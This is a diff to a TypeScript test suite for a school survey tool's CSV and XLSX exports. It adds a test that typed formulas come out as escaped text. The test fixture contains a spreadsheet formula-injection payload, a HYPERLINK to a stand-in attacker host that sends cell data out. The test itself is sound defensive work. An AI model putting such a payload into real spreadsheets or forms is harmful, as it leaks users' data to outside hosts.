@@ -32,7 +32,10 @@ const answersA = {
 };
 const answersB = { 'prof.role': 'pupil', 'prof.school': 'a', single: 'b', 'lik.st1': 1 };
 
-async function laptop(definition = JSON.stringify(allTypes())) {
+async function laptop(
+  definition = JSON.stringify(allTypes()),
+  first: Record<string, unknown> = answersA,
+) {
   const db = new KringDb(`export-${++n}`);
   dbs.push(db);
   const session = await createSession(db, { definition, title: 'T', school: 'De Klimop' });
@@ -58,7 +61,7 @@ async function laptop(definition = JSON.stringify(allTypes())) {
       receivedAt: 1,
     });
   };
-  await put(1, answersA, 'submitted');
+  await put(1, first, 'submitted');
   await put(2, answersB, 'in-progress');
   return { db, session };
 }
@@ -150,6 +153,34 @@ describe('data exports', () => {
     const single = result.data.wide.header.indexOf('single');
     expect(data[1]![single]).toBe(3);
     expect(sheets[1]!.data[0]).toEqual(['variable', 'label', 'type', 'values', 'missing']);
+  });
+
+  it('a typed formula is text in the CSVs and the XLSX, and numbers stay numbers', async () => {
+    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")';
+    const { db, session } = await laptop(JSON.stringify(allTypes()), {
+      ...answersA,
+      open: hostile,
+      'single.other': '+32 470 12 34 56',
+    });
+    const result = await studyData(db, [session.id], text);
+    if (!result.ok) throw new Error(result.reason);
+    const files = await studyFiles(result.data, true);
+
+    const rows = parseCsv(await files.get(WIDE_CSV)!.text());
+    const first = Object.fromEntries(rows[0]!.map((name, i) => [name, rows[1]![i]]));
+    expect(first['open']).toBe(`'${hostile}`);
+    expect(first['single.other']).toBe("'+32 470 12 34 56");
+    expect(first['matrix.r2']).toBe('5');
+    const long = parseCsv(await files.get('kring-data-long.csv')!.text());
+    expect(long.find((r) => r[2] === 'open')?.[3]).toBe(`'${hostile}`);
+
+    const xlsx = files.get('kring-data.xlsx')!;
+    const [data] = await readXlsxFile(Buffer.from(await xlsx.arrayBuffer()));
+    const header = data!.data[0] as string[];
+    const cells = data!.data[1]!;
+    expect(cells[header.indexOf('open')]).toBe(`'${hostile}`);
+    expect(cells[header.indexOf('matrix.r2')]).toBe(5); // a number cell, not text
+    expect(cells[header.indexOf('survey_version')]).toBe(2);
   });
 
   it('refuses to put sessions of different questionnaires in one table', async () => {
